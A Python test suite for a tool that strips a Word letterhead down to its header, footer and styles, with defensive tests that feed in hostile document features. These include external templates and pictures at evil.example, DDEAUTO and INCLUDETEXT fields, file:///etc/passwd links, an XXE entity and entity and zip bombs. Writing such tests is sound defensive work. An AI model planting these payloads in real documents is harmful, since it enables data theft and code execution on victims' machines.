"""An organisation's own Word file as the base: what makes its letterhead stays, all else goes."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from contextlib import suppress
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.oxml.parser import parse_xml
from docx.shared import Inches, Mm, RGBColor

from cop_wizard.documents.formats.word.pictures import png_of
from cop_wizard.documents.formats.word.writing import word_file
from cop_wizard.documents.subject import Wish
from cop_wizard.errors import FileTrouble
from documents.document_plans import SPARSE, subject_of
from documents.word_files import DRAWING, SHEETS, W, WordFile, paper_of, text_in

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
LOGO = png_of('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"><rect width="9" height="9"/></svg>', 1)
_ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"

Change = Callable[[Any], None]


def letterhead(folder: Path, change: Change | None = None, name: str = "letterhead.docx") -> Path:
    """A letterhead as an office makes one, with a letter still in it."""
    made = docx.Document()
    section = made.sections[0]
    section.page_width, section.page_height, section.left_margin = Mm(210), Mm(297), Mm(40)
    section.header.paragraphs[0].add_run("Prairie Schools, Box 12").add_picture(BytesIO(LOGO), width=Inches(1))
    section.footer.paragraphs[0].text = "Registered charity 4711"
    made.styles["Heading 1"].font.name = "Lato"
    made.styles["Heading 1"].font.color.rgb = RGBColor(0x8A, 0x15, 0x38)
    made.add_paragraph("Dear Sir, this is an old and secret letter.")
    made.core_properties.author = "somebody.private"
    if change:
        change(made)
    path = folder / name
    made.save(str(path))
    return path


def on(path: Path, *pieces: Any, **changes: Any) -> WordFile:
    """A document on a letterhead."""
    subject = subject_of(SPARSE, wish=Wish(reference=path))
    return WordFile(word_file(paper_of(*pieces, **changes), subject))


def rewritten(path: Path, change: Callable[[str, bytes], bytes | None], **more: bytes) -> Path:
    """The file with its parts changed, left out (``None``) or added."""
    made = path.with_name(f"changed-{path.name}")
    with zipfile.ZipFile(path) as given, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as to:
        for name in given.namelist():
            content = change(name, given.read(name))
            if content is not None:
                to.writestr(name, content)
        for name, content in more.items():
            to.writestr(name, content)
    return made


def test_head_foot_page_and_styles_are_kept_and_the_letter_goes(tmp_path: Path) -> None:
    file = on(letterhead(tmp_path))
    parts = {name: file.raw(name) for name in file.names() if name.endswith(".xml")}
    every = "".join(parts.values())
    assert "Prairie Schools, Box 12" in every
    assert "Registered charity 4711" in every
    assert "secret letter" not in every
    assert "somebody.private" not in every
    assert 'w:ascii="Lato"' in parts["word/styles.xml"]
    size = file.body().find(f"{W}sectPr/{W}pgSz")
    assert size is not None
    assert (size.get(f"{W}w"), size.get(f"{W}h")) == ("11906", "16838")
    assert [name for name in file.names() if name.startswith("word/media/")] == [
        "word/media/image1.png",
        "word/media/image2.png",
    ]
    assert not [name for name in file.names() if "custom" in name.lower() or "thumbnail" in name]


def test_the_community_is_named_and_our_styles_take_the_letterheads_colour(tmp_path: Path) -> None:
    file = on(letterhead(tmp_path))
    assert file.paragraphs("Subtitle") == ["Early Numeracy Network"]
    assert "8A1538" in file.raw("word/styles.xml")
    assert "0D5C61" not in file.raw("word/styles.xml")
    used = {
        str(one.get(f"{W}val")) for tag in ("pStyle", "rStyle", "tblStyle") for one in file.body().iter(f"{W}{tag}")
    }
    assert used <= {str(one.get(f"{W}styleId")) for one in file.part("word/styles.xml").iter(f"{W}style")}


def test_styles_with_the_ids_of_another_language_are_found_by_their_names(tmp_path: Path) -> None:
    path = rewritten(
        letterhead(tmp_path),
        lambda name, content: (
            content.replace(b'"Heading1"', b'"berschrift1"') if name == "word/styles.xml" else content
        ),
    )
    assert on(path).paragraphs("berschrift1") == ["Words"]


def test_text_fits_the_letterheads_page(tmp_path: Path) -> None:
    file = on(letterhead(tmp_path))
    sides = file.body().find(f"{W}sectPr/{W}pgMar")
    assert sides is not None
    room = 11906 - int(sides.get(f"{W}left", 0)) - int(sides.get(f"{W}right", 0))
    for table in file.body().iterfind(f"{W}tbl"):
        assert room - 12 <= sum(int(one.get(f"{W}w", 0)) for one in table.iterfind(f"{W}tblGrid/{W}gridCol")) <= room


def test_spelling_is_checked_in_the_language_of_the_text(tmp_path: Path) -> None:
    file = on(letterhead(tmp_path), language="fr")
    named = list(file.part("word/styles.xml").iter(f"{W}lang"))
    assert named
    assert {one.get(f"{W}val") for one in named} == {"fr-CA"}


def test_the_heading_of_a_picture_stays_with_it_whatever_the_letterheads_captions_do(tmp_path: Path) -> None:
    shown = on(letterhead(tmp_path), DRAWING).body().iter(f"{W}p")
    heading = next(one for one in shown if text_in(one) == DRAWING.title)
    assert heading.find(f"{W}pPr/{W}keepNext") is not None


def test_each_letter_of_a_set_is_on_the_letterhead(tmp_path: Path) -> None:
    sections = list(on(letterhead(tmp_path), *SHEETS).body().iter(f"{W}sectPr"))
    assert len(sections) == 2
    assert all(one.find(f"{W}headerReference") is not None for one in sections)


def test_without_a_foot_of_its_own_pages_are_numbered(tmp_path: Path) -> None:
    made = docx.Document()
    made.save(str(tmp_path / "styles.docx"))
    file = on(tmp_path / "styles.docx")
    assert text_in(file.part("word/footer.xml")).endswith("Page 1 of 1")


def test_a_template_is_as_good_as_a_document(tmp_path: Path) -> None:
    path = rewritten(
        letterhead(tmp_path),
        lambda name, content: content.replace(b"document.main+xml", b"template.main+xml"),
    )
    assert "document.main+xml" in on(path).raw("[Content_Types].xml")


def test_the_same_letterhead_makes_the_same_bytes(tmp_path: Path) -> None:
    path = letterhead(tmp_path)
    assert on(path).content == on(path).content


# --- what leads out of the file -------------------------------------------------------------------------------------


def _attached_template(made: Any) -> None:
    part = made.settings._element
    key = made.part._settings_part.relate_to("https://evil.example/letter.dotm", _ATTACHED, is_external=True)
    element = OxmlElement("w:attachedTemplate")
    element.set(qn("r:id"), key)
    part.insert(0, element)


def _mail_merge(made: Any) -> None:
    made.settings._element.insert(0, parse_xml(f'<w:mailMerge {_W}><w:query w:val="SELECT secret"/></w:mailMerge>'))


def _frame(made: Any) -> None:
    made.part.relate_to("https://evil.example/frame", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)


@pytest.mark.parametrize("change", [_attached_template, _mail_merge, _frame])
def test_what_leads_out_of_the_file_is_dropped(change: Change, tmp_path: Path) -> None:
    file = on(letterhead(tmp_path, change))
    everything = "".join(file.raw(name) for name in file.names() if name.endswith((".xml", ".rels")))
    assert "evil.example" not in everything
    assert "SELECT" not in everything
    assert "attachedTemplate" not in everything


def test_a_link_to_the_organisations_own_site_stays(tmp_path: Path) -> None:
    def change(made: Any) -> None:
        part = made.sections[0].header.part
        key = part.relate_to("https://prairie.example/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        xml = f'<w:hyperlink {_W} {_R} r:id="{key}"><w:r><w:t>our site</w:t></w:r></w:hyperlink>'
        made.sections[0].header.paragraphs[0]._p.append(parse_xml(xml))

    file = on(letterhead(tmp_path, change))
    everything = "".join(file.raw(name) for name in file.names() if name.endswith((".xml", ".rels")))
    assert "https://prairie.example/" in everything


def _field(instruction: str) -> Change:
    def change(made: Any) -> None:
        xml = f"<w:r {_W}><w:instrText>{instruction}</w:instrText></w:r>"
        made.sections[0].header.paragraphs[0]._p.append(parse_xml(xml))

    return change


def _linked_picture(made: Any) -> None:
    part = made.sections[0].header.part
    part.relate_to("https://evil.example/dot.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)


def _object(made: Any) -> None:
    made.sections[0].footer.paragraphs[0]._p.append(parse_xml(f"<w:r {_W}><w:object/></w:r>"))


@pytest.mark.parametrize(
    "change",
    [
        _field(' INCLUDEPICTURE "https://evil.example/dot.png" '),
        _field(" DDEAUTO excel "),
        _linked_picture,
        _object,
    ],
)
def test_a_head_that_fetches_something_is_refused(change: Change, tmp_path: Path) -> None:
    with pytest.raises(FileTrouble, match="fetches something") as caught:
        on(letterhead(tmp_path, change))
    assert "put the picture itself" in caught.value.hint


def _runs(*runs: str) -> Change:
    def change(made: Any) -> None:
        for run in runs:
            made.sections[0].footer.paragraphs[0]._p.append(parse_xml(f"<w:r {_W}>{run}</w:r>")[0])

    return change


def _field_of(*texts: str, tag: str = "instrText") -> Change:
    """A whole field, its instruction split over runs."""
    runs = [f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>' for text in texts]
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return _runs(begin, *runs, end)


@pytest.mark.parametrize(
    "change",
    [
        _field_of(" INCLUDE", 'TEXT "/etc/passwd" '),
        _field_of(" INCL<!-- -->UDETEXT x "),
        _field_of(" DDE", "AUTO excel "),
        _field_of(" INCLUDEPICTURE x ", tag="delInstrText"),
        _field_of(" QUOTE x "),
        _field_of(" AUTOTEXT x "),
        _field_of(' HYPERLINK "file:///etc/passwd" '),
        _field_of(r' HYPERLINK "\\\\server\\share" '),
        _field_of(' "https://evil.example/dot.png" '),
        _runs('<w:fldSimple w:instr=" AUTOTEXT x "/>'),
        _runs("<w:ins><w:r><w:instrText>PAGE </w:instrText></w:r></w:ins>"),
    ],
)
def test_a_field_that_is_not_known_to_be_harmless_is_refused(change: Change, tmp_path: Path) -> None:
    with pytest.raises(FileTrouble, match="The head or foot") as caught:
        on(letterhead(tmp_path, change))
    assert caught.value.hint


@pytest.mark.parametrize(
    "instruction",
    [
        r" PAGE \* MERGEFORMAT ",
        r' DATE \@ "d MMMM" ',
        r" STYLEREF 1 ",
        ' HYPERLINK "https://prairie.example/link" ',
        " =1+1 ",
    ],
)
def test_a_field_that_counts_dates_or_names_stays(instruction: str, tmp_path: Path) -> None:
    file = on(letterhead(tmp_path, _field_of(instruction[:3], instruction[3:])))
    kept = [one for name in file.names() if "/footer" in name for one in file.part(name).iter(f"{W}instrText")]
    assert "".join(one.text or "" for one in kept) == instruction


@pytest.mark.parametrize("target", ["file:///etc/passwd", r"\\server\share\x", "/home/x", "javascript:alert(1)"])
def test_a_link_to_a_file_becomes_plain_words(target: str, tmp_path: Path) -> None:
    def change(made: Any) -> None:
        head = made.sections[0].header
        key = head.part.relate_to(target, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        xml = f'<w:hyperlink {_W} {_R} r:id="{key}"><w:r><w:t>our disk</w:t></w:r></w:hyperlink>'
        head.paragraphs[0]._p.append(parse_xml(xml))
        name = next(head._element.iter("{*}docPr"))
        space = "http://schemas.openxmlformats.org/drawingml/2006/main"
        name.append(parse_xml(f'<a:hlinkClick xmlns:a="{space}" {_R} r:id="{key}"/>'))

    file = on(letterhead(tmp_path, change))
    everything = "".join(file.raw(name) for name in file.names() if name.endswith((".xml", ".rels")))
    assert target not in everything
    assert "our disk" in everything
    assert "hlinkClick" not in everything
    assert "word/media/image1.png" in file.names()  # the logo that led there


def test_fields_that_only_count_stay(tmp_path: Path) -> None:
    assert "NUMPAGES" in "".join(
        file.raw(name)
        for file in [on(letterhead(tmp_path, _field(" NUMPAGES ")))]
        for name in file.names()
        if name.startswith("word/header")
    )


def test_what_needs_a_part_that_is_gone_goes_with_it(tmp_path: Path) -> None:
    """A picture whose file is missing would make Word call the document damaged."""
    path = rewritten(
        letterhead(tmp_path),
        lambda name, content: content.replace(b'r:embed="rId1"', b'r:embed="rId77"'),
    )
    heads = [name for name in on(path).names() if name.startswith("word/header")]
    assert heads
    assert all("rId77" not in on(path).raw(name) for name in heads)


# --- files that are no letterhead -----------------------------------------------------------------------------------


def _refused(path: Path, words: str) -> FileTrouble:
    with pytest.raises(FileTrouble, match=words) as caught:
        on(path)
    assert caught.value.hint
    assert caught.value.path == path
    return caught.value


def test_files_that_are_not_from_word(tmp_path: Path) -> None:
    _refused(tmp_path / "missing.docx", "cannot be read")
    _refused(tmp_path, "is not a file")
    text = tmp_path / "text.docx"
    text.write_text("Dear Sir")
    _refused(text, "not a Word file")
    old = tmp_path / "old.docx"
    old.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert "without a password" in _refused(old, "an old Word, or has a password").hint
    sheet = rewritten(letterhead(tmp_path), lambda name, content: content.replace(b"wordprocessingml.document", b"x"))
    _refused(sheet, "not a Word file")
    half = tmp_path / "half.docx"
    half.write_bytes(letterhead(tmp_path).read_bytes()[:9000])
    _refused(half, "not a Word file")


@pytest.mark.parametrize("gone", ["word/document.xml", "word/styles.xml", "_rels/.rels", "[Content_Types].xml"])
def test_files_with_parts_missing(gone: str, tmp_path: Path) -> None:
    path = rewritten(letterhead(tmp_path), lambda name, content: None if name == gone else content)
    _refused(path, "parts of it are missing|not a Word file")


@pytest.mark.parametrize(
    "part", ["word/document.xml", "word/styles.xml", "word/header1.xml", "word/_rels/document.xml.rels"]
)
@pytest.mark.parametrize("content", [b"", b"<broken", b"<?xml version='1.0'?><other/>", b"\xff\xfe\x00"])
def test_parts_that_cannot_be_read(part: str, content: bytes, tmp_path: Path) -> None:
    path = rewritten(letterhead(tmp_path), lambda name, given: content if name == part else given)
    with suppress(FileTrouble):  # and nothing else
        on(path)


def test_macros_are_refused(tmp_path: Path) -> None:
    path = rewritten(
        letterhead(tmp_path),
        lambda name, content: content.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    )
    assert "Word document (.docx)" in _refused(path, "holds macros").hint


def test_entities_are_refused(tmp_path: Path) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
    path = rewritten(
        letterhead(tmp_path),
        lambda name, content: bomb + b"<w>&b;</w>" if name == "word/header1.xml" else content,
    )
    _refused(path, "no Word writes")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32"])
def test_entities_are_refused_in_any_encoding(encoding: str, tmp_path: Path) -> None:
    text = '<?xml version="1.0" encoding="{}"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    part = text.format(encoding).encode(encoding)
    path = rewritten(letterhead(tmp_path), lambda name, content: part if name == "word/theme/theme1.xml" else content)
    _refused(path, "no Word writes")


def test_a_head_that_is_called_a_drawing_is_no_way_around_that(tmp_path: Path) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY b "bb">]><w:hdr ' + _W.encode() + b"><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:hdr>"
    path = rewritten(
        letterhead(tmp_path),
        lambda name, content: None if name.endswith("header1.xml") else content.replace(b"header1.xml", b"header1.svg"),
        **{"word/header1.svg": bomb},
    )
    _refused(path, "The head or foot")


@pytest.mark.parametrize(
    "size",
    ['w:w="abc" w:h="15840"', 'w:w="0" w:h="0"', 'w:w="-5" w:h="15840"', 'w:w="99999999999" w:h="15840"', "", None],
)
@pytest.mark.parametrize("landscape", [False, True])
def test_a_page_that_has_no_size_gets_one(size: str | None, landscape: bool, tmp_path: Path) -> None:
    def change(name: str, content: bytes) -> bytes:
        if name != "word/document.xml":
            return content
        sides = re.sub(rb'w:left="[0-9]+"', b'w:left="abc"', content)
        return re.sub(rb"<w:pgSz [^>]*/>", b"" if size is None else f"<w:pgSz {size}/>".encode(), sides)

    page = on(rewritten(letterhead(tmp_path), change), landscape=landscape).body().find(f"{W}sectPr")
    assert page is not None
    size_now, sides = page.find(f"{W}pgSz"), page.find(f"{W}pgMar")
    assert size_now is not None
    assert sides is not None
    letter = ["12240", "15840"]
    assert [size_now.get(f"{W}w"), size_now.get(f"{W}h")] == (letter[::-1] if landscape else letter)
    assert str(sides.get(f"{W}left")).isdigit()
    tags = [child.tag for child in page]
    assert tags.index(f"{W}headerReference") < tags.index(f"{W}pgSz") < tags.index(f"{W}pgMar")


def test_a_file_that_unpacks_to_far_more_is_refused(tmp_path: Path) -> None:
    path = rewritten(letterhead(tmp_path), lambda name, content: content, **{"word/bomb.xml": bytes(101 * 2**20)})
    assert path.stat().st_size < 2**20
    _refused(path, "unpacks to more")
